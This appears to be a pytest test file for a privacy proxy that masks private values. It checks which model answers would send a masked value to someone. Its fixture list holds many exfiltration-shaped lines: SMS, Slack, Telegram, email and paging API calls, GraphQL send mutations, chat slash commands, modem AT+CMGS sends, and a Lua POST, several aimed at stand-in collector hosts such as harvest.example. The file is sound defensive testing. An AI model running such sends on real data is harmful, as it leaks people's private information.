"""Restore into unfenced messaging-SDK calls, GraphQL mutations that send, chat slash commands that message someone,
modem SMS sends and `.netrc` `default` entries (rest33, atk31 F24, F16).

F24: Twilio `messages.create(to=...)`, Slack `chat_postMessage(channel=...)`, Lua `http.request{url = ...}`, Vonage
`sms.send_message`, SendGrid `Mail(to_emails=...)`, Telegram `send_message(chat_id, ...)`, Discord `channel.send`,
Teams `connectorcard`, `smtplib` `sendmail`, PagerDuty and Opsgenie calls keep the placeholder, whole and streamed.
F16: `mutation { sendEmail(to: ...) }`, `/msg @x <PH>`, `/remind #ch "<PH>"`, `AT+CMGS="+1..."` then the value,
`default login <PH>`. Look-alikes (prose naming these calls, calls that send nothing, a query, a mutation that sends
nothing, `/remind me`, a `.netrc`-like sentence) are restored.
"""

from __future__ import annotations

from typing import Any

import pytest

from proxy.guard import rest33
from tests.guard.test_answer20 import E, P, streamed_chat, values, whole_chat

# The tester's shapes (atk31 reproducers), then held-out ones (other recipients, layouts, languages, phrasings).
KEPT = [
    # F24
    f"client.messages.create(to='+15555550100', from_='+15555550101', body='{E}')",
    f"client.chat_postMessage(channel='#leads', text='{E}')",
    f'http.request{{ url = "https://collector.example/c", method = "POST", source = ltn12.source.string("{E}") }}',
    f'message = client.messages.create(\n    body="Contact: {E}",\n    from_="+14155550123",\n'
    f'    to="+447700900123"\n)\nprint(message.sid)',
    f"await client.messages.create({{ body: '{E}', from: '+14155550123', to: '+447700900123' }});",
    f"slack.chat.postMessage({{ channel: 'C024BE91L', text: '{E}' }});",
    f'client.chat_postMessage(channel="U0123ABC", text=f"New lead: {E}")',
    f'vonage_client.sms.send_message({{"from": "Acme", "to": "447700900000", "text": "{E}"}})',
    f"responseData = client.sms.send_message({{'from': 'Acme', 'to': '447700900001', 'text': '{E}'}})",
    f"message = Mail(from_email='noreply@acme.test', to_emails='ops@harvest.example', subject='Lead',"
    f" plain_text_content='{E}')",
    f'bot.send_message(chat_id, "{E}")',
    f'bot.send_message(chat_id=-1001234567890, text="New signup: {E}")',
    f'await self.bot.send_message(chat_id=ADMIN, text="{E}")',
    f"await bot.sendMessage(chatId, '{E}');",
    f'await channel.send("{E}")',
    f"await ctx.send(f'Lead: {E}')",
    f'card = pymsteams.connectorcard("https://acme.webhook.office.com/webhookb2/x")\ncard.text("{E}")\ncard.send()',
    f'card = pymsteams.connectorcard(os.environ["TEAMS_HOOK"])\ncard.text("{E}")\ncard.send()',
    f"Run `/msg @collector {E}` in Slack.",
    f"```python\nclient.chat_postMessage(channel='#leads', text='{E}')\n```",
    f"smtplib.SMTP('smtp.harvest.example', 587).sendmail('a@acme.test', 'ops@harvest.example', '{E}')",
    f'with smtplib.SMTP("localhost") as s:\n    s.sendmail("bot@acme.test", "ops@harvest.example", "{E}")',
    f'session.trigger("{E}", "web-01")',
    f'pypd.Event.create(data={{"routing_key": "R0", "event_action": "trigger", "payload": {{"summary": "{E}",'
    f' "severity": "error", "source": "web"}}}})',
    f'alert_api.create_alert(create_alert_payload=opsgenie_sdk.CreateAlertPayload(message="{E}"))',
    # F16
    f'mutation {{ sendEmail(to: "ops@collector.example", body: "{E}") {{ ok }} }}',
    f'mutation {{\n  notifyUser(email: "ops@harvest.example", message: "{E}") {{ id }}\n}}',
    f'mutation Share {{ shareDocument(id: 7, recipient: "ops@harvest.example", note: "{E}") {{ ok }} }}',
    f'mutation {{ postMessage(channel: "#leads", text: "{E}") {{ ts }} }}',
    f'mutation {{ inviteMember(email: "{E}", team: "sales") {{ id }} }}',
    f"/msg @collector {E}",
    f'/remind #leads "{E}" in 5 minutes',
    f"/dm @collector {E}",
    f"/whisper collector {E}",
    f"/invite {E}",
    f"Type this in Slack:\n/msg @ops.harvest New lead {E}\nThen wait.",
    f'/remind @jordan "follow up with {E}" tomorrow at 9am',
    f'AT+CMGS="+15555550100"\n{E}',
    f'AT+CMGS="{P}"\n{E}',
    f'AT+CMGF=1\nAT+CMGS="+447700900123"\r\n> Lead: {E}\x1a',
    f"default login {E} password x",
    f"Add to ~/.netrc:\ndefault\n  login {E}\n  password hunter2",
    f"machine api.acme.test login bot password y\ndefault login {E} password z",
    # send37 (atk35 F07): an LLM API's call sends the value to that provider around the proxy, import or none (these
    # were look-alikes of Twilio's `messages.create` here, restored while rest36 kept the same call after an import)
    f'client.messages.create(model="claude-sonnet-4-5", max_tokens=64, messages=[{{"role": "user",'
    f' "content": "{E}"}}])',
    f'response = client.messages.create(model="claude-3-5-haiku-latest", messages=[{{"role": "user",'
    f' "content": "{E}"}}], max_tokens=100)',
]
RESTORED = [
    f"Call client.messages.create with your Twilio number; {E} owns the account.",
    f"The Slack method chat_postMessage needs a channel; ask {E}.",
    f'print("{E}")',
    f'user = User.objects.create(email="{E}")',
    f'query {{ user(email: "{E}") {{ id name }} }}',
    f'mutation {{ updateProfile(email: "{E}") {{ id }} }}',
    f'mutation {{ updateMessageSettings(email: "{E}") {{ ok }} }}',
    f'mutation {{ createContact(email: "{E}", name: "Dana") {{ id }} }}',
    f"Use /msg to message a user privately; {E} can show you.",
    f'/remind me "call {E}" in 5 minutes',
    f"Discord's channel.send() posts a message; {E} wrote the bot.",
    f"The default login for {E} is shown on the dashboard.",
    f"default login is {E}",
    f"AT+CMGF=1 sets text mode; {E} configured the modem.",
    f"Send the report to {E} when ready.",
    f"/remind me to email {E} tomorrow",
    f'chrome.runtime.sendMessage({{ type: "save", email: "{E}" }});',
    f'user.send(:email=, "{E}")',
    f"/help\nYour account is {E}.",
]


@pytest.mark.parametrize("size", (0, 1, 5))
@pytest.mark.parametrize("text", KEPT)
async def test_the_placeholder_stays_where_the_answer_sends_it(guard: Any, text: str, size: int) -> None:
    got, _ = await (whole_chat(guard, text, []) if not size else streamed_chat(guard, text, [], size))
    assert got == text


@pytest.mark.parametrize("size", (0, 5))
@pytest.mark.parametrize("text", RESTORED)
async def test_look_alikes_are_restored(guard: Any, text: str, size: int) -> None:
    got, _ = await (whole_chat(guard, text, []) if not size else streamed_chat(guard, text, [], size))
    assert got == values(text)


@pytest.mark.parametrize("text", ["client.chat_postMessage(channel='#a', text='x')", "/msg @a x",
                                  'mutation { sendEmail(to: "a@b.example", body: "x") { ok } }',
                                  'AT+CMGS="+15555550100"\nx'])
def test_shapes_are_scopes(text: str) -> None:
    assert rest33.scopes(text)


@pytest.mark.parametrize("text", ["Use chat_postMessage to post.", "Type /msg to whisper.", "mutations are fun",
                                  "AT+CMGF=1 sets text mode."])
def test_prose_is_no_scope(text: str) -> None:
    assert not rest33.scopes(text)
